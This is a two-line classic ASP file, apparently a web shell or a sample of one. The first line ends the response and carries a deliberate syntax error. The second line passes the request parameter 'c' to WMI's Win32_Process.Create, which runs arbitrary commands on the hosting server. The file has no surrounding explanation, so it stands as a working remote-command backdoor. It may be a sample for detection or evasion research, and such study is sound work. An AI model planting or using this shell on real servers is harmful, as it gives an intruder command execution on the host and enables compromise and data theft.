<% Response.End : Dim 1 %>
<% Set p=GetObject("winmgmts:\\.\root\cimv2:Win32_Process"): p.Create request("c"),null,null,i %>
